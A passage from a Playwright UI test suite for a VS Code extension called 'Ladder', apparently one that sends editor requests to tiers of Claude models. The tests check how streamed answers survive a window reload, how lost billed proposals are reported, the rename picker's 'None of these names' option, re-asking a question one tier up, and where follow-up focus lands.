    const view = page.locator('.editor-group-container .view-lines', { hasText: 'Partly streamed' });
    await view.waitFor({ state: 'visible', timeout: 30_000 });
    const hung = () => messageRequests().slice(sent).some((e) => e.outcome === 'hung');
    for (let i = 0; i < 150 && !hung(); i++) await page.waitForTimeout(200);
    assert.ok(hung(), 'the answer is still coming');
    // A billed proposal, its diff open, no verdict yet.
    await runCommand(page, 'Ladder: Tidy Selection');
    await waitForNotification(page, /Tidy Selection — claude-\S+ \(\w+\): apply this edit\?/);
    // What streamed is saved at most every second while it streams.
    await page.waitForTimeout(2_500);
    // As a person reloads: the workbench saves its state (the open tabs) before it goes. A
    // browser reload may leave before that save is done, and bring back older tabs.
    const reloaded = page.waitForEvent('load', { timeout: 60_000 });
    await runCommand(page, 'Developer: Reload Window');
    await reloaded;
    await page.locator('.monaco-workbench').waitFor({ state: 'visible', timeout: 60_000 });
    // The diff is not restored; the new window says what it was and what it cost.
    assert.match(await waitForNotification(page, /proposal for src\/orders\.ts/, 60_000), /Ladder: a Tidy Selection proposal for src\/orders\.ts \(\$[\d.]+\) was open when the window closed or reloaded, and was not kept\. Run Tidy Selection again to see it\./);
    await shot('ui-11c-proposal-lost-in-reload');
    await tab.waitFor({ state: 'visible', timeout: 30_000 });
    await tab.click();
    const restored = page.locator('.editor-group-container .view-lines', { hasText: /cut\s+this\s+answer\s+off/ });
    await restored.waitFor({ state: 'visible', timeout: 30_000 });
    // The editor draws spaces as no-break spaces, and wraps long lines.
    const text = (await restored.innerText()).replace(/\s+/g, ' ');
    assert.match(text, /Partly streamed: the --- _A window reload cut this answer off before it finished\. What was billed for it is in the cost report\._/);
    assert.doesNotMatch(text, /no longer has this view/);
    await shot('ui-11d-answer-cut-off-by-reload');
    const before = messageRequests().length;
    await runCommand(page, 'Ladder: Ask a Follow-up');
    await waitForNotification(page, /this answer was cut off by a window reload before it finished, so it cannot be continued/);
    assert.equal(messageRequests().length, before, 'nothing was sent');
  }

  test("Rename Symbol's names end with None of these names: Escape judges nothing, None offers the tier above", { timeout: 60_000 }, async () => {
    await clearNotifications(page);
    await openFromExplorer(page, 'src', 'orders.ts');
    // The cursor just after `t` in `let t = 0`, where Find leaves it.
    await page.keyboard.press('Control+f');
    await page.keyboard.type('let t ');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Escape');
    await page.keyboard.press('ArrowLeft');
    const pick = async () => {
      const sent = messageRequests().length;
      await runCommand(page, 'Ladder: Rename Symbol');
      await waitForQuickInputTitle(page, /Rename t — suggested by claude-/, 30_000);
      assert.equal(messageRequests().length, sent + 1, 'one request for the names');
      return page.locator('.quick-input-list .monaco-list-row');
    };
    const rows = await pick();
    const none = rows.filter({ hasText: 'None of these names' });
    await none.waitFor({ state: 'visible', timeout: 5_000 });
    assert.ok((await rows.count()) >= 2, 'the names, then None of these names');
    assert.doesNotMatch(await none.innerText(), /\$\(close\)/, 'its icon is drawn, not spelled out');
    await shot('ui-12-rename-names');
    await page.keyboard.press('Escape');
    await page.waitForTimeout(500);
    assert.equal(await page.locator('.notifications-toasts .notification-list-item', { hasText: /you rejected/ }).count(), 0, 'Escape is no rejection');

    await (await pick()).filter({ hasText: 'None of these names' }).click();
    await waitForNotification(page, /you rejected claude-haiku-4-5's names\. Try the same request on the execute tier \(claude-sonnet-4-6\)\?/);
  });

  test("an answer's title bar has Answer Again One Tier Up: the arrow asks the question again on the next tier, beside the answer", { timeout: 60_000 }, async () => {
    await clearNotifications(page);
    // The tests before leave orders.ts open in two groups.
    await runCommand(page, 'View: Close All Editor Groups');
    await openFromExplorer(page, 'src', 'orders.ts');
    await selectLines(page, 15, 19);
    const sent = messageRequests().length;
    await runCommand(page, 'Ladder: Explain Selection');
    const groups = page.locator('.editor-group-container');
    // By the header, the view's first line: a long answer's footer may be scrolled out of sight.
    const first = groups.filter({ has: page.locator('.view-lines', { hasText: /Explain\s+Selection\W+routed\s+to\W+claude-haiku-4-5/ }) });
    await first.waitFor({ state: 'visible', timeout: 30_000 });
    const before = await groups.count();
    // The button shows once the answer is complete, so the click below waits for it.
    // An inactive group shows no editor actions (workbench.editor.alwaysShowEditorActions): click into the answer first.
    await first.locator('.view-lines').click();
    const arrow = first.locator('.editor-actions [aria-label^="Answer Again One Tier Up"]');
    await arrow.waitFor({ state: 'visible', timeout: 30_000 });
    // Ladder's two buttons stand together, before the Markdown extension's own, which answers show too.
    const actions = await first.locator('.editor-actions .action-item a[aria-label]').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label') ?? ''));
    assert.deepEqual(actions.slice(0, 3).map((label) => label.split(' (')[0]), ['Ask a Follow-up', 'Answer Again One Tier Up', 'Open Preview to the Side'], actions.join(' | '));
    await arrow.click();
    const again = groups.filter({ has: page.locator('.view-lines', { hasText: /Answer\s+Again\W+routed\s+to\W+claude-sonnet-4-6/ }) });
    await again.waitFor({ state: 'visible', timeout: 30_000 });
    assert.equal(await groups.count(), before + 1, 'in a group of its own, beside the first answer');
    assert.equal(before, 2, 'the code, then the first answer');
    await first.waitFor({ state: 'visible', timeout: 5_000 });
    for (let i = 0; i < 150 && messageRequests().length < sent + 2; i++) await page.waitForTimeout(200);
    assert.deepEqual(messageRequests().slice(sent).map((e) => e.model), ['claude-haiku-4-5', 'claude-sonnet-4-6'], 'the answer, then the same question one tier up');
    await shot('ui-13-answer-again');
  });

  test("a follow-up from an answer's title bar opens over it and takes the keyboard focus with it", { timeout: 60_000 }, async () => {
    const groups = page.locator('.editor-group-container');
    const again = groups.filter({ has: page.locator('.view-lines', { hasText: /Answer\s+Again\W+routed\s+to\W+claude-sonnet-4-6/ }) });
    await again.locator('.view-lines').click();
    await again.locator('.editor-actions [aria-label^="Ask a Follow-up"]').click({ timeout: 30_000 });
    await waitForQuickInputTitle(page, 'Ladder: Ask a Follow-up');
    await quickInput(page).fill('and when the list is empty?');
    await page.keyboard.press('Enter');
    const followUp = groups.filter({ has: page.locator('.view-lines', { hasText: /Follow-up\W+routed\s+to\W+claude-sonnet-4-6/ }) });
    await followUp.waitFor({ state: 'visible', timeout: 30_000 });
    // The answer it covers had the focus: it moves to the follow-up, so the keys scroll and copy what is shown.
    const focused = await page.evaluate<string>('document.activeElement ? `${document.activeElement.tagName}.${document.activeElement.className}` : "nothing"');
    assert.equal(await followUp.locator(':focus').count(), 1, `the focus is in the follow-up, not on ${focused}`);
    await shot('ui-14-follow-up-focus');
  });
});
